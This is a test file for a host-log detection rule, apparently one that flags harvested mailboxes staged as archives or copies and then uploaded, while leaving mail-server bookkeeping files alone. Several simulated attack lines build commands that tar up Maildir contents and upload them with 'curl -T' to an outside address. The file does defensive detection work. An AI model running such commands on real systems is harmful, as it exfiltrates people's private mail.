import assert from 'node:assert/strict';
import { test } from 'node:test';
import { type Delivered, HostLog, MINUTE } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
import {
  atMostAt,
  factorsOf,
  firesAt,
  recording,
  scanFolder,
  scanLog,
  storyOf,
  valuesOf,
} from '../an0656-phishing-attachment-executed/stories.test-support.ts';

const OUT = '203.0.113.66';

function mailHost(): { log: HostLog; mine: Delivered; other: Delivered } {
  const log = new HostLog();
  log.shell('ops').run('/usr/bin/vim notes.txt').write('/home/ops/notes.txt');
  log.service('/usr/sbin/chronyd').connect('198.51.100.1', 123);
  const mine = log.deliver();
  const other = log.deliver({ to: 'buyer' });
  log.shell('clerk').run('/usr/bin/mutt').read(mine.path);
  log.wait(MINUTE);
  return { log, mine, other };
}

test("recorded: what doveadm keeps beside the boxes it reads is no staged file, what the attacker's shell wrote is", async () => {
  const { folder } = recording('an1310-mail-store-harvested/fires.doveadm-other-boxes');
  const alert = storyOf((await scanFolder(folder)).alerts, 'AN1310');
  assert.equal(alert.severity, 'medium');
  const inStores = valuesOf(alert, 'file').filter(path => path.includes('/Maildir/'));
  assert.deepEqual(inStores, []);
  assert.match(alert.factors.find(factor => factor.name === 'staged in a file')?.evidence ?? '', /^\/dev\/shm\//);
});

for (const name of [
  'dovecot.list.index.log.newlock',
  'dovecot.index.tmp',
  'dovecot.index.cache',
  'dovecot-uidlist.lock',
])
  test(`the server's own tool writes ${name} into the store that it reads: bookkeeping`, async () => {
    const { log, other } = mailHost();
    const tool = log.shell('root').run('/usr/bin/doveadm mailbox status -u buyer all INBOX');
    tool.read(other.path).write(`/home/buyer/Maildir/${name}`);
    const alerts = await scanLog(log);
    atMostAt(alerts, 'informational');
    for (const alert of alerts) assert.ok(!factorsOf(alert).includes('staged in a file'), factorsOf(alert).join('\n'));
  });

test("an indexer's database below the store is bookkeeping, in a subfolder of it too", async () => {
  const { log, mine } = mailHost();
  const notmuch = log.cron('clerk', 'notmuch new').run('/usr/bin/notmuch new').read(mine.path);
  notmuch.write('/home/clerk/Maildir/.notmuch/xapian/flintlock');
  notmuch.write('/home/clerk/Maildir/.Archive/.index.tmp');
  assert.deepEqual(await scanLog(log), []);
});

const STAGES: readonly (readonly [path: string, says: string])[] = [
  ['/home/clerk/Maildir/.cache.tgz', 'a hidden archive'],
  ['/home/clerk/Maildir/dovecot.index.log.newlock', "a name of the server's own"],
  ['/home/clerk/Maildir/tmp/x.tar.gz', 'an archive where messages are put together'],
  ['/home/clerk/mail/old.lock', 'a name of a lock, in another store'],
];
for (const [path, says] of STAGES)
  test(`an archive that tar makes inside the store is a staged file: ${says}`, async () => {
    const { log, mine } = mailHost();
    const shell = log.shell('clerk');
    shell.run(`/bin/tar czf ${path} Maildir/new`).write(path).read(mine.path);
    log.wait(5 * MINUTE);
    shell.run(`/usr/bin/curl -T ${path} http://${OUT}/x`).read(path).connect(OUT, 80);
    const alert = firesAt(await scanLog(log), 'AN1310', 'medium');
    assert.ok(factorsOf(alert).includes('staged in a file'), factorsOf(alert).join('\n'));
    assert.ok(valuesOf(alert, 'file').includes(path), valuesOf(alert, 'file').join('\n'));
  });

test("the server's own tool that writes one person's mail into another's store makes a copy", async () => {
  const { log, other } = mailHost();
  const shell = log.shell('root');
  const tool = shell.run('/usr/bin/doveadm backup -u buyer mbox:/home/clerk/mail/in');
  tool.read(other.path).write('/home/clerk/mail/in');
  log.wait(MINUTE);
  shell.run(`/usr/bin/curl -T /home/clerk/mail/in http://${OUT}/x`).read('/home/clerk/mail/in').connect(OUT, 80);
  const alert = firesAt(await scanLog(log), 'AN1310', 'medium');
  assert.ok(valuesOf(alert, 'file').includes('/home/clerk/mail/in'), valuesOf(alert, 'file').join('\n'));
});

test('a copy of the tool that its user can write keeps no store', async () => {
  const { log, other } = mailHost();
  const tool = log.shell('ops').run('/home/ops/bin/doveadm fetch -u buyer text all').read(other.path);
  tool.write('/home/buyer/Maildir/dovecot.index.tmp');
  const alert = storyOf(await scanLog(log), 'AN1310');
  assert.ok(factorsOf(alert).includes('staged in a file'));
});

test("what the server's tool notes for each account in turn lies in the store of the account as which it runs", async () => {
  const indexed = async (account: string, uid: number): Promise<readonly string[]> => {
    const { log, mine, other } = mailHost();
    const shell = log.shell('root');
    const of = (line: string, as: number) =>
      shell.run(`/usr/bin/doveadm index ${line}`, { who: { ...shell.who, uid: as } });
    of('-u clerk INBOX', 1003).read(mine.path);
    const second = of(`-u ${account} INBOX`, uid);
    second.write('/home/buyer/Maildir/dovecot-uidlist.tmp').read(other.path);
    return (await scanLog(log)).flatMap(factorsOf);
  };
  assert.ok(!(await indexed('buyer', 1004)).includes('staged in a file'));
  assert.ok((await indexed('buyer', 1003)).includes('staged in a file'), 'it runs as whose mail was read');
});

test('a message that is moved to a folder by its owner is no copy', async () => {
  const { log, mine } = mailHost();
  const cp = log.shell('clerk').run(`/bin/cp ${mine.path} Maildir/.Archive/cur/`).read(mine.path);
  cp.write('/home/clerk/Maildir/.Archive/cur/1772442000.M1P9.ws1:2,S');
  assert.deepEqual(await scanLog(log), []);
});

test('the lock of a box is no box, under whatever name it is made; a box that is called a lock is one', async () => {
  const linked = async (from: string, to: string): Promise<string> => {
    const log = new HostLog();
    log.deliver();
    const shell = log.shell('ops');
    shell.write('/home/ops/notes.txt');
    shell.run('/usr/bin/curl -s https://www.example.net/').connect('203.0.113.80', 443);
    log.wait(MINUTE);
    const who = { ...shell.who, uid: 0 };
    shell.run('/usr/bin/sudo lockit', { who }).run('/usr/bin/lockit').link(`/var/mail/${from}`, `/var/mail/${to}`);
    return (await scanLog(log)).map(({ title }) => title).join();
  };
  assert.equal(await linked('clerk.lock1a2bws1.example.org', 'clerk.lock'), '');
  assert.match(await linked('clerk', 'x.lock'), /^Mail of clerk read/);
});

test('the file that liblockfile makes before it links a lock is no box, whatever program makes and reads it', async () => {
  const read = async (name: string): Promise<string> => {
    const log = new HostLog();
    log.deliver();
    log
      .shell('clerk')
      .run('/usr/bin/dotlockfile -r 1 /var/mail/clerk')
      .write(`/var/mail/${name}`)
      .read(`/var/mail/${name}`);
    return (await scanLog(log)).map(({ title }) => title).join();
  };
  assert.equal(await read('.lk212831mx1'), '');
  assert.equal(await read('.lk04711aws3.example.org'), '');
  assert.equal(await read('clerk.lock'), '');
  assert.match(await read('.lkbuyer'), /^Mail of /, 'a hidden box');
});

test("what the server's tool keeps beside the boxes of all users is bookkeeping, and no way by which mail goes on", async () => {
  const { log, mine, other } = mailHost();
  const tool = log.shell('root').run('/usr/bin/doveadm search -A from x@example.com');
  tool.write('/home/clerk/Maildir/dovecot-uidvalidity.6b03a136').read(mine.path);
  tool
    .write('/home/buyer/Maildir/dovecot-uidlist')
    .read(other.path)
    .write('/home/clerk/Maildir/dovecot.list.index.log');
  log.wait(MINUTE);
  const later = log.shell('root');
  later.run(`/usr/bin/curl -T /home/buyer/Maildir/dovecot-uidlist http://${OUT}/x`).connect(OUT, 80);
  atMostAt(await scanLog(log), 'informational');
});

test('under the name of an index, what a shell opened for its output and what the words name is a staged file', async () => {
  for (const isNamed of [true, false]) {
    const { log, mine, other } = mailHost();
    const shell = log.shell('root');
    const path = '/home/buyer/Maildir/dovecot.cache';
    const child = shell.fork();
    if (!isNamed) child.write(path);
    log.wait(10);
    child.exec(`/usr/bin/doveadm fetch -A text all${isNamed ? ` ${path}` : ''}`);
    if (isNamed) child.write(path);
    child.read(mine.path).read(other.path);
    log.wait(MINUTE);
    shell.run(`/usr/bin/curl -T ${path} http://${OUT}/x`).read(path).connect(OUT, 80);
    const alert = firesAt(await scanLog(log), 'AN1310', 'medium');
    assert.ok(valuesOf(alert, 'file').includes(path), valuesOf(alert, 'file').join('\n'));
  }
});

test("a Maildir that the server's tool makes among temporary files is a copy, of whom the letters are", async () => {
  const { log, other } = mailHost();
  const shell = log.shell('root');
  const tool = shell.run('/usr/bin/doveadm backup -u buyer maildir:/var/tmp/.b');
  const [temporary, path] = ['/var/tmp/.b/tmp/1772442061.M1P2.ws1', '/var/tmp/.b/cur/1772442061.M1P2.ws1:2,'];
  tool.write('/var/tmp/.b/dovecot-uidlist').read(other.path).write(temporary).rename(temporary, path);
  log.wait(MINUTE);
  const tar = shell.run('/usr/bin/tar cf /root/b.tar -C /var/tmp .b');
  tar.write('/root/b.tar').read(path);
  log.wait(MINUTE);
  shell.run(`/usr/bin/curl -T /root/b.tar http://${OUT}/x`).read('/root/b.tar').connect(OUT, 80);
  const alert = firesAt(await scanLog(log), 'AN1310', 'medium');
  assert.match(alert.title, /^Mail of buyer/);
  assert.ok(valuesOf(alert, 'file').includes(temporary), valuesOf(alert, 'file').join('\n'));
  assert.ok(alert.entities.every(({ value }) => value !== 'tmp'));
});
